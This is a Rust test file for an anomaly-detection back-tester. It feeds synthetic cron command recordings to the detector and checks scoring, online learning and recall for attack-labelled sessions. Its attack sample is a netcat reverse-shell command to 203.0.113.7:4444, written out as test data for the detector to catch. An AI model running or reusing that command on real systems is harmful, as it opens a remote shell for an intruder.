//! Back-tests of recordings made up here.

use std::io::BufReader;
use std::sync::Arc;
use std::time::Duration;

use anomaly_baseline::{Method, Score, Settings, Standing};
use anomaly_capture::recording::{Reader, Recorded};
use anomaly_vectorizer::Hashed;
use anomaly_vectorizer::scrub::Scrubber;

use crate::{Backtest, Options, Outcome, Step};

fn read(lines: &str) -> Vec<Recorded> {
    let reader =
        Reader::new(BufReader::new(lines.as_bytes()), Scrubber::default()).expect("it is plain text");
    reader.map(|line| line.expect("a line that can be read")).collect()
}

fn line(workload: &str, args: &str, more: &str) -> String {
    let name = args.split(' ').next().unwrap_or_default();
    let args = args.split(' ').map(|arg| format!("{arg:?}")).collect::<Vec<_>>().join(",");
    format!(
        "{{\"workload\":\"{workload}\",\"name\":\"{name}\",\"parent\":\"cron\",\"args\":[{args}]{more}}}\n"
    )
}

const ROUTINE: &[&str] = &[
    "df -h /var",
    "curl -s http://127.0.0.1/health",
    "tar -czf /var/backups/etc.tgz /etc",
    "find /tmp -mtime +7",
];

fn baseline() -> Vec<Recorded> {
    let days =
        (0..4).flat_map(|day| ROUTINE.iter().map(move |args| line("web", args, &format!(",\"day\":{day}"))));
    read(&days.collect::<String>())
}

fn attack(session: &str, args: &str) -> String {
    line("web", args, &format!(",\"label\":\"attack\",\"session\":\"{session}\""))
}

const STRIKE: &str = "nc -e /bin/sh 203.0.113.7 4444";

struct Run {
    steps: Vec<(Option<Score>, u16, i32, Standing)>,
    outcome: Outcome,
    unknown: Vec<String>,
}

fn run(online: bool, repeat_attack: u16, events: &str) -> Run {
    let options = Options {
        settings: Settings { learn_for: Duration::ZERO, ..Settings::default() },
        method: Method::default(),
        online,
        repeat_attack,
    };
    let mut backtest = Backtest::new(options, Arc::new(Hashed::default()));
    baseline().iter().for_each(|recorded| backtest.learn(recorded));
    backtest.finish_learning(0);
    let mut outcome = Outcome::default();
    let mut steps = Vec::new();
    let mut each = |step: &Step<'_>| {
        outcome.note(step);
        steps.push((step.verdict.score, step.occurrence, step.day, step.verdict.standing));
    };
    read(events).iter().for_each(|recorded| backtest.score(recorded, &mut each));
    let unknown = backtest.finish(&mut each);
    Run { steps, outcome, unknown }
}

#[test]
fn known_events_are_zero_and_attacks_are_found_on_the_last_day() {
    let run = run(false, 1, &(line("web", ROUTINE[0], "") + &attack("a", STRIKE)));
    assert_eq!(run.steps[0].0, Some(Score::ZERO));
    assert!(run.steps[1].0 >= Some(Score::from_ten_thousandths(8500)), "{:?}", run.steps);
    assert_eq!(run.steps[1].2, 3, "a line without a day belongs to the workload's last");
    assert_eq!(run.outcome.at_threshold(None).session_recall, 1.0);
    assert_eq!(run.outcome.tally().sessions, 1);
}

#[test]
fn nothing_is_learned_from_an_attack_and_sessions_do_not_pay_for_each_other() {
    let thrice = attack("a", STRIKE) + &attack("b", STRIKE) + &attack("a", STRIKE);
    let run = run(true, 1, &thrice);
    assert_eq!(run.steps[0].0, run.steps[1].0, "the second session knows nothing of the first");
    assert!(run.steps[2].0 < run.steps[0].0, "within a session a repeat tells less");
    assert!(run.steps.iter().all(|step| step.3 == Standing::Unlearned));
}

#[test]
fn events_teach_only_when_they_are_to() {
    let twice = line("web", "df -i /var", ",\"day\":5").repeat(2);
    let online = run(true, 1, &twice).steps;
    assert!(online[0].0 > Some(Score::ZERO));
    assert_eq!(online[1].0, Some(Score::ZERO));
    let frozen = run(false, 1, &twice).steps;
    assert!(frozen[1].0 > Some(Score::ZERO));
}

#[test]
fn a_repeated_attack_is_scored_daily_and_learned_by_the_policy() {
    let run = run(false, 9, &attack("a", STRIKE));
    assert_eq!(run.steps.iter().map(|step| step.1).collect::<Vec<_>>(), (1..=9).collect::<Vec<_>>());
    assert_eq!(run.steps.iter().map(|step| step.2).collect::<Vec<_>>(), (3..12).collect::<Vec<_>>());
    let found: Vec<_> = run.outcome.by_occurrence().iter().map(|daily| daily.session_recall > 0.5).collect();
    assert!(found[0] && !found[8], "held first, learned in the end: {found:?}");
    assert_eq!(run.outcome.tally().attack, 1, "a repetition is no further event");
}

#[test]
fn a_workload_without_a_baseline_has_no_score_and_is_named() {
    let run = run(true, 1, &line("db", STRIKE, "").repeat(3));
    assert!(run.steps.iter().all(|step| step.0.is_none()));
    assert_eq!(run.unknown, ["db"]);
    assert_eq!(run.outcome.tally().unscored, 3);
}

#[test]
fn lines_of_a_baseline_are_no_events() {
    let run = run(false, 1, &line("web", STRIKE, ",\"split\":\"base\""));
    assert!(run.steps.is_empty());
}
